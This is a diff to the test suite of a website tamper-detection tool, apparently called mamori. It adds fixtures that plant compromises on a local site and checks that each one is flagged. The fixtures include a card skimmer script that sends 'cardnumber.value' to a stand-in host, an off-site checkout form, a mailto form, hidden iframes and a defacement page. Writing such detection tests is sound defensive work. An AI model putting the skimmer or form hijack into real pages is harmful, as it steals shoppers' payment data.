@@ -1040,6 +1040,8 @@ class WebSite(Base):
     def test_an_unchanged_site_is_silent_and_each_tampering_is_named(self):
         p = mamori("web", "baseline", self.url, "--baseline", self.baseline, check=0)
         self.assertIn("Baseline of 5 pages", p.stdout)  # robots.txt kept /private/ out
+        self.assertIn(f"1 linked pages not crawled because robots.txt disallows them (e.g. "
+                      f"{self.url}private/secret.html)", p.stderr)
         self.assertEqual(stat.S_IMODE(os.stat(self.baseline).st_mode), 0o600)
         base = json.loads(slurp(self.baseline))
         self.assertIn(self.url + "unlinked.html", base["pages"])  # from the sitemap
@@ -1058,12 +1060,14 @@ class WebSite(Base):
                   .replace(' integrity="sha', ' data-x="sha'))
         co = slurp(os.path.join(self.site, "checkout.html"))
         self.page("checkout.html", co.replace('action="/pay"', f'action="{self.cdn_url}/c"')
+                  .replace("</form>", '</form><form action="mailto:a@b.example"></form>')
                   .replace("</body>", "<script>document.forms[0].onsubmit=function(){"
                                       "new Image().src='//x.example/?'+cardnumber.value}</script>"
                                       "</body>"))
         ab = slurp(os.path.join(self.site, "about.html"))
         self.page("about.html", ab.replace(
-            "</body>", f'<iframe src="{self.cdn_url}/x.html" width="1" height="1"></iframe></body>'))
+            "</body>", f'<iframe src="{self.cdn_url}/x.html" width="1" height="1"></iframe>'
+                       '<iframe src="http://127.0.0.3:1/pay.html"></iframe></body>'))
         self.page("news.html", "<html><head><title>hacked</title></head><body><h1>Hacked by "
                                "nobody</h1><p>your security is a joke, greetings to all my "
                                "friends out there</p></body></html>")
@@ -1077,6 +1081,7 @@ class WebSite(Base):
             ("defacement", "news.html", "high"),
             ("form-offsite", "checkout.html", "high"),
             ("hidden-iframe", "about.html", "medium"),
+            ("new-iframe-origin", "about.html", "medium"),
             ("new-inline-script", "checkout.html", "high"),
             ("new-script", "", "medium"),
             ("new-script-origin", "", "medium"),
@@ -1114,7 +1119,7 @@ class WebSite(Base):
         p = mamori("--store", self.db, "--format", "json", "findings", "list", "--state", "fixed",
                    check=0)
         self.assertEqual(len([f for f in json.loads(p.stdout)["findings"]
-                              if f["module"] == "web"]), 11)
+                              if f["module"] == "web"]), 12)
 
     def test_render_sees_scripts_other_scripts_add(self):
         # A tag manager from another origin (no integrity, so its content is not compared)
@@ -1146,10 +1151,38 @@ class WebSite(Base):
         self.assertIn("Chromium not found", p.stdout)
         self.assertNotIn("/tmp/mamori-render-", "".join(os.listdir("/tmp")))
 
+    def test_a_new_baseline_keeps_the_old_one_and_each_start_set_is_its_own_scope(self):
+        mamori("web", "baseline", self.url, "--no-sitemap", check=0)
+        p = mamori("web", "baseline", self.url.rstrip("/"), "--no-sitemap", check=0)
+        path = os.path.join(STATE, "web", "http_127.0.0.1_%d.json" % self.port)
+        self.assertIn(f"the previous one kept as {path}.prev", p.stdout)
+        self.assertEqual(stat.S_IMODE(os.stat(path + ".prev").st_mode), 0o600)
+        # The checkout page alone: another baseline, another scope; checking it does not touch
+        # the whole site's findings.
+        co = self.url + "checkout.html"
+        mamori("web", "baseline", co, check=0)
+        self.page("index.html", slurp(os.path.join(self.site, "index.html")).replace(
+            "</head>", '<script src="http://127.0.0.3:1/x.js"></script></head>'))
+        doc = json.loads(mamori("--store", self.db, "--format", "json", "-q", "web", "check",
+                                self.url, check=0).stdout)
+        self.assertEqual([f["check"] for f in doc["findings"]], ["new-script-origin"])
+        doc = json.loads(mamori("--store", self.db, "--format", "json", "-q", "web", "check", co,
+                                check=0).stdout)
+        self.assertEqual(doc["findings"], [])
+        p = mamori("--store", self.db, "--format", "json", "findings", "list", check=0)
+        self.assertEqual([(f["check"], f["state"]) for f in json.loads(p.stdout)["findings"]],
+                         [("new-script-origin", "new")])
+        co_base = [n for n in os.listdir(os.path.join(STATE, "web"))
+                   if n.startswith("http_127.0.0.1_%d-" % self.port) and n.endswith(".json")]
+        self.assertEqual(len(co_base), 1)
+        p = mamori("web", "check", co + "?x", "--baseline",
+                   os.path.join(STATE, "web", co_base[0]), check=2)
+        self.assertIn("give those URLs", p.stderr)
+
     def test_mistakes_get_clear_errors(self):
         mamori("web", "baseline", "ftp://127.0.0.1/", check=2)
         p = mamori("web", "check", "--baseline", os.path.join(self.tmp, "none.json"), check=3)
-        self.assertIn("mamori web baseline URL", p.stderr)
+        self.assertIn("no baseline to compare with", p.stderr)
         spit(self.baseline, '{"format": "something else"}')
         p = mamori("web", "check", "--baseline", self.baseline, check=3)
         self.assertIn("not a web baseline", p.stderr)
